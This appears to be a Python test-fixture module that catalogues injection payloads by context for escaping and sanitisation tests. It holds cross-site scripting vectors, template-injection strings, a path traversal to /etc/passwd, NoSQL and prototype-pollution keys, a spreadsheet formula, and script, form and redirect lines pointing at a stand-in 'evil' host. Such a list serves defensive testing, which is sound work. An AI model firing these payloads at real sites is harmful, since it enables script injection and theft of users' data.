"""Texts that try to be code: for each language that a page or a file of ours is written in, each way out
of a string, a tag, a comment or a statement. What runs sets `window.ran` or asks EVIL for something; a
template that is evaluated writes SUM."""

from __future__ import annotations

EVIL = "evil"
SUM = str(811 * 613)
_RUN = "ran=1"  # without a dot, so that names of fields may be it
_SUM = "811*613"

_HTML = (
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"<ScRiPt/x>{_RUN}//",
    f"<script src=//{EVIL}/a.js></script>",
    "<script type=module>window.ran=1</script>",
    f"<img src=x onerror={_RUN}>",
    f"<IMG SRC=x OnErRoR\n=\n'{_RUN}'>",
    f'"><img src=x onerror="{_RUN}">',
    f"'><img src=x onerror='{_RUN}'>",
    f"--><img src=x onerror={_RUN}>",
    f"]]><img src=x onerror={_RUN}>",
    f"</title><img src=x onerror={_RUN}>",
    f"</textarea><img src=x onerror={_RUN}>",
    f"</style><img src=x onerror={_RUN}>",
    f"</option></select><img src=x onerror={_RUN}>",
    f"</pre></code><img src=x onerror={_RUN}>",
    f"</bdi></td></table><img src=x onerror={_RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<template><img src=x onerror={_RUN}></template>",
    f'<iframe srcdoc="<script>parent.{_RUN}</script>">',
    f"<iframe src=javascript:parent.{_RUN}>",
    f"<object data=javascript:{_RUN}>",
    f"<embed src=//{EVIL}/a.swf>",
    f"<details open ontoggle={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<form action=//{EVIL}><button>send",
    f"<base href=//{EVIL}/>",
    f"<meta http-equiv=refresh content=0;url=//{EVIL}>",
    f"<link rel=stylesheet href=//{EVIL}/a.css>",
    f"&lt;img src=x onerror={_RUN}&gt;",
    f"&#60;img src=x onerror={_RUN}&#62;",
)
_ATTRIBUTES = (
    f'" autofocus onfocus="{_RUN}" x="',
    f"' autofocus onfocus='{_RUN}' x='",
    f" autofocus onfocus={_RUN} ",
    f"` onmouseover=`{_RUN}`",
)
_SVG = (
    f"<svg onload={_RUN}>",
    f"</text><script>{_RUN}</script>",
    f"<svg><use href=//{EVIL}/a.svg#x />",
    f"<svg><foreignObject><img src=x onerror={_RUN}>",
    f"<svg><animate onbegin={_RUN} attributeName=x>",
    f"<math><mtext><img src=x onerror={_RUN}>",
)
_ADDRESSES = (
    f"javascript:{_RUN}//",
    f"java\tscript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f"//{EVIL}/a.png",
    f"https://{EVIL}/a.png",
    "../../../../etc/passwd",
)
_STYLE = (
    f"red;background:url(//{EVIL}/a.png)",
    f"</style><style>@import'//{EVIL}/a.css'",
    f"expression({_RUN})",
)
_TEMPLATES = (
    "{{ 811|add:0 }}{% widthratio 811 1 613 %}",
    f"{{{{{_SUM}}}}}",
    f"${{{_SUM}}}",
    f"<%= {_SUM} %>",
    f"#{{{_SUM}}}",
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    "%(name)s %s {0} {name}",
)
_MARKDOWN = (
    f"[x](javascript:{_RUN})",
    f"![x](//{EVIL}/a.png)",
    f"```\n<img src=x onerror={_RUN}>\n```",
    f"| a | <img src=x onerror={_RUN}> |\n|---|",
)
_PROGRAMS = (
    f'"); {_RUN}; ("',
    f"'); {_RUN}; ('",
    f"`); {_RUN}; (`",
    f'\\"); {_RUN}; //',
    f"*/ {_RUN}; /*",
    f"x\u2028{_RUN}\u2029//",
    f"\n{_RUN}\n",
    '"] URL="javascript:ran=1" [x="',
    '\\" \\N \\G ]; } digraph {',
    f'<B>x</B><IMG SRC="//{EVIL}/a.png"/>',
    f'"] %%{{init: {{}}}}%%\nclick e1 "javascript:{_RUN}"',
    "}}}]]])))\"'`$where: function() { return 1 }",
    "__proto__",
    "constructor",
    "$where",
    "a.b.$[].c",
    '=HYPERLINK("//evil","x")',
)
_LETTERS = (
    "\u202egpj.exe\u202c\u2066\u2067",
    "\u2400\ufeff\u200b\u00ad\ufffd",
    "\x01\x07\x08\x1b[31mred\x1b[0m\x7f",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!",
    "👩‍👩‍👧‍👦𝕏ﷺ",
    "مرحبا <b>שלום</b>",
    "\u00ab\u201cx\u201d\u2018y\u2019\u00bb \" ' ` \u02bc",
    " " * 9 + "\t\r\n" + " " * 9,
    "x" * 4000,
    "<" * 2000 + "&" * 2000,
)

_LANGUAGES = (_HTML, _ATTRIBUTES, _SVG, _ADDRESSES, _STYLE, _TEMPLATES, _MARKDOWN, _PROGRAMS, _LETTERS)
PAYLOADS = tuple(payload for language in _LANGUAGES for payload in language)
FEW = (*(language[0] for language in _LANGUAGES), _HTML[7])
"""The plainest way out of each language, and the one out of a value in quotes: as many as one design carries."""
REFUSED = ("x\x00y", "x\ud800y")
"""What no text may hold anywhere."""
